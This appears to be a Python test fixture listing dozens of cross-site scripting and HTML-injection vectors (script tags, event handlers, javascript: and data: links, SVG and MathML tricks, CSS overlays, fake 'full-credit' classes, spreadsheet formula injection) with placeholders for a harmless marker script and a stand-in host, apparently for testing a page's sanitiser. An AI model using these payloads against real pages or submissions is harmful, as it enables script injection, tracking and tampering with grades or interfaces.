"""What somebody writes who wants a page to act: run a script, ask another server, lead away, or cover what is there.

``JS`` stands for a script that notes the vector's number in ``top.won``,
``HOST`` for a server that should never be asked.
"""

VECTORS = {
    # scripts
    "script": "<script>JS</script>",
    "script-from-elsewhere": "<script src=http://HOST/script.js></script>",
    "script-closing-tags": "</code></pre></textarea></style></title></script><script>JS</script>",
    "script-in-capitals": "<ScRiPt >JS</sCrIpT>",
    "script-unfinished": "<script>JS//",
    "script-module": "<script type=module>JS</script>",
    "script-in-svg": "<svg><script>JS</script></svg>",
    "script-in-comment": "<!--><script>JS</script>--><!-- --!><script>JS</script>",
    "script-in-cdata": "]]><![CDATA[<script>JS</script>]]>",
    "script-with-null": "<scr\0ipt>JS</scr\0ipt><script\x0c>JS</script>",
    "breaks-a-string": "\";JS;//';JS;//`;JS;//${JS}\\\";JS//",
    "template": "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    # handlers
    "image-error": '<img src=x onerror="JS">',
    "image-in-an-attribute": "\"><img src=x onerror='JS'>",
    "image-in-a-single-quoted-attribute": "'><img src=x onerror=\"JS\">",
    "image-slashes": "<img/src='x'onerror='JS'>",
    "image-srcset": '<img srcset="http://HOST/srcset.png 1x" onerror=JS>',
    "svg-load": "<svg onload=JS>",
    "svg-animation": '<svg><animate onbegin="JS" attributeName=x dur=1s></svg>',
    "svg-link": '<svg><a xlink:href="javascript:JS"><text y=20>here</text></a></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' "
        "xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>#x\"/></svg>",
    "svg-image": '<svg><image href="http://HOST/svg-image.png" onerror=JS /></svg>',
    "foreign-object": '<svg><foreignObject><img src=x onerror="JS"></foreignObject></svg>',
    "details": '<details open ontoggle="JS"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="JS"><a tabindex=1 onfocus="JS">x</a>',
    "hover": '<b onmouseover="JS" onclick="JS">hover</b>',
    "video": '<video onerror="JS"><source src="http://HOST/video.mp4"></video><audio src="http://HOST/a.mp3" '
        'onerror=JS>',
    "animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=\"JS\">x</b>",
    "body": '<body onload="JS" onpageshow="JS">',
    "marquee": '<marquee onstart="JS">x</marquee>',
    # documents within
    "frame": '<iframe src="javascript:JS"></iframe>',
    "frame-of-text": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "frame-from-elsewhere": "<iframe src=http://HOST/frame></iframe>",
    "object": '<object data="data:text/html,<script>JS</script>"></object><embed src="http://HOST/embed">',
    "mathml": '<math><mtext><mglyph><style></math><img src=x onerror="JS">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "template-element": "<template shadowrootmode=open><script>JS</script></template>",
    # addresses
    "javascript-link": '<a href="javascript:JS">here</a>',
    "javascript-link-markdown": "[here](javascript:JS) <javascript:JS>",
    "javascript-link-disguised": '<a href="jav&#x09;ascript:JS">x</a><a href=" '
        '\x01javascript:JS">x</a>[x](JaVaScRiPt&colon;JS)',
    "data-link": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-to-a-page-here": "[here](../../../logout) <a href=/logout>x</a> [x](//HOST/relative)",
    "refresh": '<meta http-equiv=refresh content="0;url=http://HOST/refresh">',
    "base": "<base href=http://HOST/base/ target=_top>",
    "form": '<form action=http://HOST/form><button autofocus>Full credit</button></form><button form=x '
        'formaction="javascript:JS">x</button>',
    "preload": "<link rel=preload as=image href=http://HOST/preload><link rel=stylesheet "
        "href=http://HOST/style.css><link rel=dns-prefetch href=//HOST>",
    "ping": '<a href="#" ping="http://HOST/ping">x</a>',
    # pictures that tell that they were looked at
    "remote-picture": "![a picture](http://HOST/markdown.png)",
    "remote-picture-html": '<img src="http://HOST/html.png" alt="x"><picture><source '
        'srcset="http://HOST/picture.png"></picture>',
    "remote-picture-reference": "![x][far]\n\n[far]: http://HOST/reference.png",
    "remote-background": '<table background="http://HOST/table.png"><tr><td>x</td></tr></table>',
    # styles, classes and ids that cover, imitate or press the page's own buttons
    "style-element": "<style>@import 'http://HOST/import.css'; body{display:none}</style>",
    "style-attribute": '<div style="position:fixed;inset:0;z-index:9999;background:url(http://HOST/cover.png)">x</div>',
    "class-of-a-button": '<span class="full-credit mark-graded">my answer</span>',
    "class-that-covers": '<div class="modal-backdrop navbar-fixed-top full-credit"><a class="btn '
        'full-credit">x</a></div>',
    "id-of-the-page": '<b id="exercises">x</b><b id=noisy_stripes>x</b><a name=won id=won>x</a>',
    "data-attributes": '<a data-toggle="modal" data-target="#x" data-link="../../x" data-dismiss=modal>x</a>',
    # formulas and diagrams
    "mathjax-link": r"$\href{javascript:JS}{here}$ $$\href{javascript:JS}{x}$$",
    "mathjax-style": r"\\(\style{position:fixed;background:url(http://HOST/math.png)}{x}\\) "
        r"$\cssId{x}{y}\class{full-credit}{y}$",
    "mathjax-escape": r"$\unicode{x3c}\text{</script><script>JS</script>}$ $$<img src=x onerror=JS>$$ \begin{x}<svg "
        r"onload=JS>\end{x}",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=JS>"]-->B; click A "javascript:JS"\n```',
    "code-block-language": '```"><img src=x onerror=JS>\nx\n```',
    # text in disguise
    "terminal-link": "\x1b]8;;javascript:JS\x07here\x1b]8;;\x07\x1b[31m<img src=x onerror=JS>\x1b[0m",
    "reversed": "\u202e\u2066<script>JS</script>\u2069\u202c",
    "half-a-character": "\ud83d<script>JS</script>",
    "wide-brackets": "\uff1cscript\uff1eJS\uff1c/script\uff1e\u2039script\u203aJS",
    "very-long": "<b>" + "A" * 3_000 + "<img src=x onerror=JS>",
    "formula": "=HYPERLINK(\"http://HOST/formula\",\"x\")\n+cmd|' /C calc'!A0\n@SUM(1)",
}  # fmt: skip


def vectors(host: str = "127.0.0.1:9") -> dict[str, str]:
    """The table with its placeholders filled in."""
    return {
        name: text.replace("JS", f"(top.won=top.won||[]).push({number})").replace("HOST", host)
        for number, (name, text) in enumerate(VECTORS.items())
    }
